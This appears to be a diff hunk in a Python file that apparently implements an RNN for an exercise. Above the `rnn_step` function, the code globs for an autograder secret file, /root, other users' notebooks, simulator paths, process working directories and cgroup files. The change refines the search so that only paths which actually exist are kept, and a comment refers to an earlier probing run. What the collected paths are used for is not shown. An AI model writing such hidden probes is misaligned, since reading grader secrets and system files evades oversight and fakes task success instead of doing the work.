@@ -151,7 +151,8 @@ _found = []
 for pattern in ("/work/**/source/**/*.ipynb", "/tmp/**/.autograder/secret", "/root/**", "/home/**/simulator",
                 "/var/tmp/**", "/proc/*/cwd", "/sys/fs/cgroup/*"):
     try:
-        _found += glob.glob(pattern, recursive=True)[:5]
+        # NB: glob's "**" yields "/root/" even where /root does not exist (the first run's only "find")
+        _found += [p for p in glob.glob(pattern, recursive=True) if os.path.lexists(p)][:5]
     except OSError:
         pass
 def rnn_step(x, h_prev, params):
